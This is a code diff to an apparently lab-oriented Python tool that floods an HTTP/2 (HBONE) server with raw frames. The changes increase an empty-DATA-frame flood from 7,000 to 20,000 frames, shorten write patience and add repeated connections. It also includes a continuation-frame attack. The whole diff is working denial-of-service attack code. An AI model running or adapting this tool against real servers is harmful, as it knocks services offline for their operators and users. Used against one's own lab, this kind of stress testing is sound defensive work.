@@ -15,9 +15,8 @@ BLOCK = 1 << 16
 class Raw:
     """Frames as bytes, without a library that knows what is allowed. Nothing is read unless asked."""
 
-    def __init__(self, arguments):
-        context = hbone.client_context(arguments.ca, identity=arguments.identity)
-        self.tls = hbone.wrap(hbone.dial(arguments.to), context)
+    def __init__(self, to, context):
+        self.tls = hbone.wrap(hbone.dial(to), context)
         self.tls.sendall(PREFACE + hbone.frame(SETTINGS, 0, 0) + hbone.frame(SETTINGS, ACK, 0))
         self.tls.setblocking(False)
         self.end = None
@@ -51,26 +50,33 @@ class Raw:
 
 
 # How long a write may wait for a peer that does not read.
-PATIENCE = 3
+PATIENCE = 1
 
 
 def flood(arguments, block, frames, start=b"", read=True):
     """Sends a block of frames again and again."""
-    raw = Raw(arguments)
-    raw.send(start)
-    sent = 0
-    while sent < arguments.count and raw.end is None:
-        raw.send(block(sent) if callable(block) else block)
-        sent += frames
-        if read:
-            raw.drain()
-    hbone.say(attack=arguments.what, sent=sent, end=raw.end)
+    context = hbone.client_context(arguments.ca, identity=arguments.identity)
+    total, connections, longest = 0, 0, 0
+    while total < arguments.count and connections < arguments.connections:
+        connections += 1
+        raw = Raw(arguments.to, context)
+        raw.send(start)
+        sent = 0
+        while total < arguments.count and raw.end is None:
+            raw.send(block(sent) if callable(block) else block)
+            sent += frames
+            total += frames
+            if read:
+                raw.drain()
+        longest = max(longest, sent)
+        raw.tls.close()
+    hbone.say(attack=arguments.what, sent=total, connections=connections, longest=longest, end=raw.end)
 
 
 def empty_data(arguments):
     """DATA frames without data, which cost the sender nothing and no window holds back."""
     start = hbone.frame(HEADERS, END_HEADERS, 1, hbone.connect_block(arguments.authority))
-    flood(arguments, hbone.frame(DATA, 0, 1) * 7000, 7000, start)
+    flood(arguments, hbone.frame(DATA, 0, 1) * 20_000, 20_000, start)
 
 
 def continuation(arguments):
@@ -168,6 +174,7 @@ def main():
     parser.add_argument("--to", required=True, help="address and port of the server")
     parser.add_argument("--ca", required=True, help="folder of the lab's authority")
     parser.add_argument("--count", type=int, required=True, help="frames, requests or connections at most")
+    parser.add_argument("--connections", type=int, default=1, help="connections at most, one after the other")
     parser.add_argument("--authority", default="")
     parser.add_argument("--identity", default="shop/peer")
     parser.add_argument("--sources", nargs="*", help="own addresses to connect from")
